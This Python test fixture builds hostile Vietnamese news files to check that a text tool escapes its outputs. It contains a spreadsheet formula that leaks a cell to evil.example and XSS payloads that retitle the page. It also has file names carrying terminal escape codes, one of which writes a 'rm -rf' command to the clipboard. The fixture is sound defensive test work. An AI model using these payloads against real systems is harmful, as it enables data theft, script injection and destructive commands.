"""Hostile inputs, generated at test time: text that attacks each output format, and file names that attack
terminals, file systems and encoders."""

import os
from pathlib import Path

BODY = (
    "Bộ trưởng Bộ Công Thương cho biết kim ngạch thương mại giữa hai nước đã tăng mạnh trong năm qua.\n\n"
    "Ngân hàng Nhà nước sẽ theo dõi sát diễn biến của thị trường vàng trong những tuần tới.\n"
)

# Cells that a spreadsheet would run as formulas: each line also carries an invalid date, so it is flagged.
FORMULAS = (
    "=Ngày 31/4/2023, hội nghị về thương mại diễn ra tại Hà Nội với nhiều đại biểu.\n\n"
    '=HYPERLINK("http://evil.example/?leak="&A1;"bấm vào đây") ngày 30/2/2024 giá vàng tăng.\n\n'
    "+Ngày 31/6/2023 thị trường chứng khoán biến động mạnh theo báo cáo.\n\n"
    "-Ngày 31/9/2023 chỉ số giá tiêu dùng tăng nhẹ so với tháng trước.\n\n"
    "@Ngày 31/11/2023 các doanh nghiệp xuất khẩu gặp nhiều khó khăn.\n\n"
)

# Markdown and HTML that must stay text in <stem>.md (entities become raw markup once the cleaner decodes them).
MARKUP = (
    "Chỉ số *5%* và _VN-Index_ tăng mạnh, [xem thêm](http://evil.example) ![ảnh](http://evil.example/a.png) hôm nay.\n\n"
    "Tin nhắn &lt;script&gt;alert(1)&lt;/script&gt; và &lt;img src=x onerror=alert(2)&gt; được gửi đến người dân.\n\n"
    "Mã độc <svg/onload=alert(3)> cùng `code` và <https://evil.example> xuất hiện trên mạng xã hội Việt Nam.\n\n"
)

# Breaks report.html's script element (an HTML comment opener before a script tag) and JavaScript's
# replacement patterns ($` $' $&).
REPORT = "Bình luận <!--<script> về giá $` $' $& của ngày 31/4/2023 trên thị trường vàng trong nước.\n\n"
# Script that would run if any of it became markup: each payload retitles the page, which the report tests check.
CANARY = "document.title='PWNED'"
REPORT += (
    f"Giá vàng </script><script>{CANARY}</script> tăng <img src=x onerror=\"{CANARY}\"> ngày 31/6/2023 "
    f"và <a href=\"javascript:{CANARY}\">bấm vào đây</a> <b onmouseover=\"{CANARY}\">đậm</b> trong tuần qua.\n\n"
)

NAMES = {
    "brackets": "[bold red]tin[/x] [link=evil.example]bấm.txt",  # a folder and a file: '[/x]' closes no tag
    "escapes": "tin\x1b]0;pwned\x07\x1b[2J\x1b]8;;evil.example\x1b\\.txt",
    "non-utf8": os.fsdecode(b"tin-\xe9\xff-caf\xe9.txt"),
    "long": "tin-" + "ư" * 123 + ".txt",  # 254 bytes
    "markup": f"<img src=x onerror={CANARY.replace(' ', '')}>tin.txt",
}
# Empty files are skipped, so their names reach the run summary.
EMPTY = {
    "brackets": "[red]trống[/x] [link=evil.example]rỗng.txt",
    "escapes": "rỗng\x1b]0;pwned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J.txt",
}


def article(text: str, title: str = "Tin tức hôm nay về thị trường") -> str:
    return f"{title}\n\n{text}{BODY}"


def hostile_folder(root: Path) -> Path:
    """One folder holding every hostile text and file name."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "formulas.txt").write_text(article(FORMULAS), encoding="utf-8")
    (root / "markup.txt").write_text(article(MARKUP, title="Tiêu đề <b>đậm</b> *nghiêng* [liên kết](http://evil.example)"),
                                     encoding="utf-8")
    (root / "report.txt").write_text(article(REPORT), encoding="utf-8")
    for name in NAMES.values():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(article("Tin ngắn về kinh tế Việt Nam trong tuần qua với nhiều biến động.\n\n"),
                                 encoding="utf-8")
    for name in EMPTY.values():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(b"")
    return root
